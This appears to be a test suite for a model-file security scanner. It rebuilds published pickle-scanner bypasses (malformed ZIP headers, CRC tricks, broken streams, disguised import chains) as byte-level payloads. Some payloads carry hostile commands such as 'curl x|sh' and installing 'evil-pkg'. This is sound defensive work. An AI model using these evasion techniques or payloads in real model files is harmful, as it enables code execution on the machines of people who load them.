import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { buildNpy } from '../builders/npy.js';
import { buildPickle, payloadPickle } from '../builders/pickle.js';
import { buildLegacyTorch, buildTorchZip, stateDictPickle } from '../builders/torch.js';
import { buildZip, offsetsOf, torchLikeEntries } from '../builders/zip.js';
import { atOrAbove, scanFiles, scanOf, summary } from './helpers.js';

/*
 * One regression test per published bypass of a pickle scanner, each built byte by byte and named for it.
 * Each asserts the payload is found as a critical call, plus whatever structural trick carried it.
 */

const critical = (r: Awaited<ReturnType<typeof scanOf>>, global: string): boolean =>
  r.findings.some((f) => f.ruleId === 'model/pickle-globals' && f.severity === 'critical' && f.evidence.match === global);

describe('published scanner bypasses', () => {
  it('CVE-2025-1716: pip.main used to install a package on load', async () => {
    const r = await scanOf(buildPickle().proto(2).global('pip', 'main').mark().mark().binunicode('install').binunicode('evil-pkg').op('LIST').tuple().reduce().stop().bytes(), 'model.pkl');
    expect(critical(r, 'pip.main')).toBe(true);
  });

  it('CVE-2025-1889: a pickle under a non-standard extension is found by content', async () => {
    const { result } = await scanFiles({ 'weights.dat': payloadPickle('os', 'system', 'id'), 'model.customext': payloadPickle('subprocess', 'run', 'id') });
    expect(critical(result, 'os.system')).toBe(true);
    expect(critical(result, 'subprocess.run')).toBe(true);
  });

  it('CVE-2025-10155: a plain pickle named like a PyTorch file (.bin/.pt) is still read as a pickle', async () => {
    const { result } = await scanFiles({ 'pytorch_model.bin': payloadPickle('os', 'system', 'id'), 'model.pt': payloadPickle('posix', 'system', 'id') });
    expect(critical(result, 'os.system')).toBe(true);
    expect(critical(result, 'posix.system')).toBe(true);
    expect(result.files.map((f) => f.format)).toEqual(['pickle', 'pickle']);
  });

  it('CVE-2025-1944: local header name differs from the central directory name', async () => {
    const entries = torchLikeEntries(payloadPickle('os', 'system', 'id'));
    entries[0] = { ...entries[0]!, localName: 'archive/data.pkx' };
    const r = await scanOf(buildZip({ entries }), 'model.pt');
    expect(critical(r, 'os.system')).toBe(true);
    expect(r.findings.some((f) => f.ruleId === 'model/zip-anomalies' && f.evidence.rule === 'name-mismatch' && f.severity === 'high')).toBe(true);
  });

  it('CVE-2025-1945: flipped general-purpose flag bits (Python zipfile refuses, torch loads)', async () => {
    const entries = torchLikeEntries(payloadPickle('os', 'system', 'id')).map((e) => ({ ...e, flags: 0x1 | 0x20 }));
    const r = await scanOf(buildZip({ entries }), 'model.pt');
    expect(critical(r, 'os.system')).toBe(true);
    expect(r.findings.some((f) => f.ruleId === 'model/zip-anomalies' && f.severity !== 'info')).toBe(true);
  });

  it('CVE-2025-10156: a wrong CRC on data.pkl (zipfile raises, torch ignores CRCs)', async () => {
    const entries = torchLikeEntries(payloadPickle('os', 'system', 'id'));
    entries[0] = { ...entries[0]!, crc: 0xdeadbeef };
    const r = await scanOf(buildZip({ entries }), 'model.pt');
    expect(critical(r, 'os.system')).toBe(true);
    expect(r.findings.some((f) => f.evidence.rule === 'crc-mismatch')).toBe(true);
  });

  it('CVE-2025-10157: a dangerous callable imported from a submodule of a denied module', async () => {
    const r = await scanOf(payloadPickle('asyncio.unix_events', '_UnixSubprocessTransport', 'id'), 'x.pkl');
    expect(critical(r, 'asyncio.unix_events._UnixSubprocessTransport')).toBe(true);
  });

  it('nullifAI: payload first, then a deliberately broken stream', async () => {
    const bytes = Buffer.concat([buildPickle().proto(2).callGlobal('os', 'system', 'curl x|sh').bytes(), Buffer.from('\xff\x00garbage', 'latin1')]);
    const r = await scanOf(bytes, 'model.pkl');
    expect(critical(r, 'os.system')).toBe(true);
    const corrupt = r.findings.find((f) => f.ruleId === 'model/pickle-integrity');
    expect(corrupt?.severity).toBe('high');
    expect(r.files[0]?.status).toBe('partial');
  });

  it('nullifAI inside a torch zip: broken data.pkl still reports its payload', async () => {
    const broken = Buffer.concat([buildPickle().proto(2).callGlobal('builtins', 'exec', 'import os').bytes(), Buffer.from([0xff])]);
    const r = await scanOf(buildTorchZip({ pickle: broken }), 'model.pt');
    expect(critical(r, 'builtins.exec')).toBe(true);
  });

  it('modelscan first-pickle gap: payload in the 4th pickle of a legacy torch file', async () => {
    const r = await scanOf(buildLegacyTorch({ payload: payloadPickle('os', 'system', 'id') }), 'legacy.pt');
    expect(r.files[0]?.format).toBe('pytorch-legacy');
    expect(critical(r, 'os.system')).toBe(true);
  });

  it('a pickle hidden in a torch zip member that is not named .pkl', async () => {
    const r = await scanOf(buildTorchZip({ extraEntries: [{ name: 'archive/data/99', data: payloadPickle('os', 'system', 'id') }] }), 'model.pt');
    expect(critical(r, 'os.system')).toBe(true);
  });

  it('getattr(__import__("os"), "system") chain', async () => {
    const bytes = buildPickle().proto(2)
      .global('builtins', 'getattr').global('builtins', '__import__').binunicode('os').tuple1().reduce()
      .binunicode('system').tuple2().reduce().binunicode('id').tuple1().reduce().stop().bytes();
    const r = await scanOf(bytes, 'x.pkl');
    expect(critical(r, 'builtins.getattr')).toBe(true);
    expect(critical(r, 'builtins.__import__')).toBe(true);
    expect(critical(r, 'os.system')).toBe(true);
  });

  it('importlib.import_module chain', async () => {
    const bytes = buildPickle().proto(2).global('importlib', 'import_module').binunicode('os').tuple1().reduce().stop().bytes();
    expect(critical(await scanOf(bytes, 'x.pkl'), 'importlib.import_module')).toBe(true);
  });

  it('functools.partial wrapping a dangerous callable', async () => {
    const bytes = buildPickle().proto(2).global('functools', 'partial').global('os', 'system').binunicode('id').tuple2().reduce().emptyTuple().reduce().stop().bytes();
    const r = await scanOf(bytes, 'x.pkl');
    expect(critical(r, 'functools.partial')).toBe(true);
    expect(summary(r, 'high')).toContain('model/pickle-globals:high:os.system');
  });

  it('operator.methodcaller / attrgetter chains', async () => {
    const bytes = buildPickle().proto(2)
      .global('operator', 'methodcaller').binunicode('system').binunicode('id').tuple2().reduce()
      .global('operator', 'attrgetter').binunicode('path').tuple1().reduce().tuple2().stop().bytes();
    const r = await scanOf(bytes, 'x.pkl');
    expect(critical(r, 'operator.methodcaller')).toBe(true);
    expect(critical(r, 'operator.attrgetter')).toBe(true);
  });

  it('torch.serialization.load reached through a dotted protocol-4 name', async () => {
    const bytes = buildPickle().proto(4).unicode('torch').unicode('serialization.load').stackGlobal().unicode('x.pt').tuple1().reduce().stop().bytes();
    expect(critical(await scanOf(bytes, 'x.pkl'), 'torch.serialization.load')).toBe(true);
  });

  it('CVE-2019-6446: numpy object array unpickled by np.load(allow_pickle=True)', async () => {
    const npy = buildNpy({ descr: '|O', shape: [1], data: payloadPickle('os', 'system', 'id') });
    const r = await scanOf(npy, 'array.npy');
    expect(critical(r, 'os.system')).toBe(true);
    expect(r.findings.some((f) => f.ruleId === 'model/numpy-object-array')).toBe(true);
  });

  it('junk before a torch zip: the prefix is what torch.load unpickles', async () => {
    const zip = buildTorchZip();
    const polyglot = Buffer.concat([payloadPickle('os', 'system', 'id'), zip]);
    const r = await scanOf(polyglot, 'model.pt');
    expect(critical(r, 'os.system')).toBe(true);
    expect(r.findings.some((f) => f.evidence.rule === 'junk-prefix')).toBe(true);
  });

  it('unknown callables are medium by default and high with --strict', async () => {
    const bytes = payloadPickle('mypackage.hooks', 'on_load', 'x');
    expect(summary(await scanOf(bytes, 'x.pkl'))).toEqual(['model/pickle-globals:medium:mypackage.hooks.on_load']);
    expect(summary(await scanOf(bytes, 'x.pkl', { strict: true }))).toEqual(['model/pickle-globals:high:mypackage.hooks.on_load']);
  });

  it('a zip entry count over the limit is a finding and a failed file, never a pass', async () => {
    const zip = buildTorchZip({ storages: Array.from({ length: 20 }, () => Buffer.alloc(8)) });
    const r = await scanOf(zip, 'model.pt', { limits: { maxZipEntries: 5 } });
    expect(r.files[0]?.status).toBe('failed');
    expect(atOrAbove(r, 'medium').some((f) => f.ruleId === 'file/unscanned')).toBe(true);
  });

  void offsetsOf;
  void stateDictPickle;
});

describe('real benign checkpoints stay quiet', () => {
  const dir = new URL('../fixtures/real/', import.meta.url);
  it.each([
    'linear-state-dict.pt',
    'checkpoint-full.pt',
    'legacy-state-dict.pt',
    'torchscript-tiny.pt',
    'tensor-bf16-and-int.pt',
    'array-float.npy',
    'arrays.npz',
    'sklearn-like.joblib',
    'arrays-zlib.joblib',
    'arrays-gzip.joblib',
    'arrays-bz2.joblib',
    'arrays-lzma.joblib',
    'arrays-xz.joblib',
    'plain-protocol0.pkl',
    'plain-protocol1.pkl',
    'plain-protocol2.pkl',
    'plain-protocol3.pkl',
    'plain-protocol4.pkl',
    'plain-protocol5.pkl',
  ])('%s: nothing at or above low, every object fully scanned', async (name) => {
    const r = await scanOf(readFileSync(new URL(name, dir)), name);
    expect(summary(r, 'low')).toEqual([]);
    expect(r.status).toBe('succeeded');
  });
});

describe('real malicious files made with CPython are caught', () => {
  const dir = new URL('../fixtures/real/malicious/', import.meta.url);
  it.each([
    ['os-system-p2.pkl', 'posix.system'],
    ['os-system-p4.pkl', 'posix.system'],
    ['builtins-exec-p0.pkl', '__builtin__.exec'],
    ['os-popen-p3.pkl', 'os.popen'],
    ['torch-zip-exec.pt', '__builtin__.exec'],
    ['legacy-torch-payload-in-third-pickle.pt', 'posix.system'],
    ['object-array.npy', 'posix.system'],
    ['joblib-payload.joblib', 'posix.system'],
  ])('%s: critical call of %s', async (name, global) => {
    const r = await scanOf(readFileSync(new URL(name, dir)), name);
    expect(critical(r, global)).toBe(true);
  });
});
